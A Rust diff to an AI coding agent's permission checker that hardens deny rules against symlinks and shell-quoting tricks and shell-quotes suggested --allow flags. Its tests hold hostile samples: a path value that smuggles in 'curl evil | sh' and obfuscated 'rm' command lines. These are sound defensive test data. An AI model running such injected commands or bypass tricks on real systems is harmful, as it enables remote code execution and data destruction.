@@ -24,8 +24,13 @@ pub enum Access {
 pub enum Subject {
     /// Nothing in particular.
     None,
-    /// A file or directory, absolute and with links resolved.
-    Path(PathBuf),
+    /// A file or directory.
+    Path {
+        /// As it was named, absolute and without `..`. What is denied under this name stays denied, wherever a link leads.
+        named: PathBuf,
+        /// With links resolved: what is opened.
+        real: PathBuf,
+    },
     /// A command line of a shell.
     Command(String),
 }
@@ -40,8 +45,8 @@ pub struct BadRule(String);
 /// OpenCode's name for reading and writing outside the project.
 const OUTSIDE: &str = "external_directory";
 
-/// The rule that `--allow` names: `all`, `TOOL` or `TOOL:PATTERN`.
-pub fn parse_allow(text: &str) -> Result<PermissionRule, BadRule> {
+/// The rule that `--allow` names: `all`, `TOOL` or `TOOL:PATTERN`. A path may begin with `~/` where there is a home.
+pub fn parse_allow(text: &str, home: Option<&Path>) -> Result<PermissionRule, BadRule> {
     let (tool, pattern) = match text.split_once(':') {
         Some((tool, pattern)) => (tool.trim(), pattern.trim()),
         None => (text.trim(), "*"),
@@ -51,9 +56,18 @@ pub fn parse_allow(text: &str) -> Result<PermissionRule, BadRule> {
         return Err(BadRule(text.to_owned()));
     }
     let tool = if tool == "all" { "*" } else { tool };
+    // A directory is meant with what is in it; the home is written as `~` in rules everywhere.
+    let pattern = match (pattern.strip_prefix("~/"), home) {
+        (Some(rest), Some(home)) if tool != "bash" => home.join(rest).display().to_string(),
+        _ => pattern.to_owned(),
+    };
+    let pattern = match pattern.strip_suffix('/') {
+        Some(folder) if tool != "bash" => format!("{folder}/*"),
+        _ => pattern,
+    };
     Ok(PermissionRule {
         tool: tool.to_owned(),
-        pattern: pattern.to_owned(),
+        pattern,
         action: Action::Allow,
         origin: Origin::Flag("--allow"),
     })
@@ -76,15 +90,31 @@ pub(crate) fn decide(
     }
 }
 
+/// Whether a rule says that such a call is not made, or only when a person agrees.
+pub(crate) fn is_denied(permissions: &Permissions, tool: &str, subject: &Subject, project: &Path) -> bool {
+    let call = Call { tool, subject, project };
+    let rule = permissions.rules.iter().rev().find(|rule| call.fits(rule));
+    rule.is_some_and(|rule| rule.action != Action::Allow)
+}
+
 /// What `--allow` would have to say so that such a call is made.
 pub(crate) fn flag_for(tool: &str, access: Access, subject: &Subject) -> String {
     match (access, subject) {
-        (Access::Read, Subject::Path(path)) => {
-            let folder = if path.is_dir() { path } else { path.parent().unwrap_or(path) };
-            format!("--allow '{tool}:{}/*'", folder.display().to_string().trim_end_matches('/'))
+        (Access::Read, Subject::Path { real, .. }) => {
+            let below = if real.is_dir() { "/*" } else { "" };
+            format!("--allow {}", shell_quoted(&format!("{tool}:{}{below}", real.display())))
+        }
+        (_, Subject::Command(command)) if is_simple(command) => {
+            let word = command.split_whitespace().next().unwrap_or("*");
+            format!("--allow {}", shell_quoted(&format!("{tool}:{word} *")))
         }
         _ => format!("--allow {tool}"),
     }
+}
+
+/// The path or command comes from a model, and a person may paste the flag into a shell.
+fn shell_quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
 }
 
 struct Call<'a> {
@@ -94,8 +124,18 @@ struct Call<'a> {
 }
 
 impl Call<'_> {
+    /// Whether a path fits a pattern, as a path of the project or as a whole.
+    fn path_fits(&self, pattern: &str, path: &Path) -> bool {
+        let inside = path.strip_prefix(self.project).ok();
+        inside.into_iter().chain([path]).any(|path| {
+            let text = path.to_string_lossy();
+            // `src/*` is meant to hold for `src` itself, too.
+            matches(pattern, &text) || pattern.strip_suffix("/*").is_some_and(|folder| matches(folder, &text))
+        })
+    }
+
     fn is_outside(&self) -> bool {
-        matches!(self.subject, Subject::Path(path) if !path.starts_with(self.project))
+        matches!(self.subject, Subject::Path { real, .. } if !real.starts_with(self.project))
     }
 
     fn fits(&self, rule: &PermissionRule) -> bool {
@@ -103,17 +143,20 @@ impl Call<'_> {
         let names_tool = matches(&rule.tool, self.tool);
         match self.subject {
             Subject::None => names_tool && rule.pattern == "*",
-            Subject::Path(path) if self.is_outside() => {
+            // A rule that narrows holds for the name as well, so that a link is no way around it.
+            Subject::Path { named, .. }
+                if !is_allow && names_tool && self.path_fits(&rule.pattern, named) =>
+            {
+                true
+            }
+            Subject::Path { real, .. } if self.is_outside() => {
                 // `read = "allow"` does not open the whole disk: whatever lies outside the project is allowed by a path,
                 // by OpenCode's own name for it, or by a rule for everything.
                 let is_meant = !is_allow || rule.pattern.starts_with('/') || rule.tool == "*";
                 let by_tool = names_tool && is_meant;
-                (by_tool || rule.tool == OUTSIDE) && path_fits(&rule.pattern, path)
+                (by_tool || rule.tool == OUTSIDE) && self.path_fits(&rule.pattern, real)
             }
-            Subject::Path(path) => {
-                let inside = path.strip_prefix(self.project).unwrap_or(path);
-                names_tool && (path_fits(&rule.pattern, inside) || path_fits(&rule.pattern, path))
-            }
+            Subject::Path { real, .. } => names_tool && self.path_fits(&rule.pattern, real),
             Subject::Command(command) => {
                 let command = command.trim();
                 let fits = matches(&rule.pattern, command);
@@ -121,18 +164,21 @@ impl Call<'_> {
                     && match rule.action {
                         // A pattern for `git *` must not let `git status; rm -r .` through.
                         Action::Allow => rule.pattern == "*" || (fits && is_simple(command)),
-                        // What is denied stays denied wherever in a line it stands.
-                        Action::Ask | Action::Deny => fits || matches(&format!("*{}", rule.pattern), command),
+                        // What is denied stays denied wherever in a line it stands. A shell has more ways to write a
+                        // command than any pattern knows: this is a help against slips, not a barrier.
+                        Action::Ask | Action::Deny => {
+                            fits || matches(&format!("*{}*", rule.pattern), &plain_command(command))
+                        }
                     }
             }
         }
     }
 }
 
-fn path_fits(pattern: &str, path: &Path) -> bool {
-    let text = path.to_string_lossy();
-    // `src/*` is meant to hold for `src` itself, too.
-    matches(pattern, &text) || pattern.strip_suffix("/*").is_some_and(|folder| matches(folder, &text))
+/// A command without what a shell takes away: quotes, backslashes, more than one space.
+fn plain_command(command: &str) -> String {
+    let bare: String = command.chars().filter(|c| !matches!(c, '"' | '\'' | '\\')).collect();
+    bare.split_whitespace().collect::<Vec<_>>().join(" ")
 }
 
 /// Whether a command line is one command.
@@ -146,16 +192,16 @@ mod tests {
 
     use plimsoll_config::{Action, Permissions};
 
-    use super::{Access, Subject, decide, parse_allow};
+    use super::{Access, Subject, decide, flag_for, parse_allow};
 
     fn allowed(rules: &[&str], tool: &str, access: Access, subject: &Subject) -> bool {
         let permissions =
-            Permissions { rules: rules.iter().map(|rule| parse_allow(rule).unwrap()).collect() };
+            Permissions { rules: rules.iter().map(|rule| parse_allow(rule, None).unwrap()).collect() };
         decide(&permissions, tool, access, subject, Path::new("/project")) == Action::Allow
     }
 
     fn path(path: &str) -> Subject {
-        Subject::Path(PathBuf::from(path))
+        Subject::Path { named: PathBuf::from(path), real: PathBuf::from(path) }
     }
 
     fn command(command: &str) -> Subject {
@@ -194,21 +240,48 @@ mod tests {
 
     #[test]
     fn the_last_rule_that_matches_decides() {
-        let mut deny = parse_allow("bash:rm *").unwrap();
+        let mut deny = parse_allow("bash:rm *", None).unwrap();
         deny.action = Action::Deny;
-        let permissions = Permissions { rules: vec![parse_allow("all").unwrap(), deny] };
+        let permissions = Permissions { rules: vec![parse_allow("all", None).unwrap(), deny] };
         let decide = |line| decide(&permissions, "bash", Access::Act, &command(line), Path::new("/project"));
+        assert_eq!(decide("ls"), Action::Allow);
+        for line in
+            ["rm a", "ls; rm a", "rm\t-r a", "\"rm\" a", "r\\m a", "true && rm a; true", "rm  a; true"]
+        {
+            assert_eq!(decide(line), Action::Deny, "{line}");
+        }
+    }
+
+    #[test]
+    fn what_is_denied_under_its_name_stays_denied_behind_a_link() {
+        let mut deny = parse_allow("read:secrets/*", None).unwrap();
+        deny.action = Action::Deny;
+        let permissions = Permissions { rules: vec![deny] };
+        let linked =
+            Subject::Path { named: "/project/secrets/key".into(), real: "/project/vault/key".into() };
+        let found = decide(&permissions, "read", Access::Read, &linked, Path::new("/project"));
+        assert_eq!(found, Action::Deny);
+    }
+
+    #[test]
+    fn the_flag_that_is_suggested_can_be_pasted() {
+        let evil = path("/tmp/a'; curl evil | sh; '/b");
         assert_eq!(
-            (decide("ls"), decide("rm a"), decide("ls; rm a")),
-            (Action::Allow, Action::Deny, Action::Deny)
+            flag_for("read", Access::Read, &evil),
+            "--allow 'read:/tmp/a'\\''; curl evil | sh; '\\''/b'"
         );
+        assert_eq!(flag_for("bash", Access::Act, &command("cargo test -q")), "--allow 'bash:cargo *'");
+        assert_eq!(flag_for("bash", Access::Act, &command("a; b")), "--allow bash");
     }
 
     #[test]
     fn what_is_no_rule_is_said_to_be_none() {
         for bad in ["", ":git", "bash:", "ba sh", "b/a"] {
-            assert!(parse_allow(bad).is_err(), "{bad}");
+            assert!(parse_allow(bad, None).is_err(), "{bad}");
         }
-        assert_eq!(parse_allow("all").unwrap().tool, "*");
+        assert_eq!(parse_allow("all", None).unwrap().tool, "*");
+        assert_eq!(parse_allow("read:/etc/", None).unwrap().pattern, "/etc/*");
+        let home = Some(Path::new("/home/me"));
+        assert_eq!(parse_allow("read:~/x/*", home).unwrap().pattern, "/home/me/x/*");
     }
 }
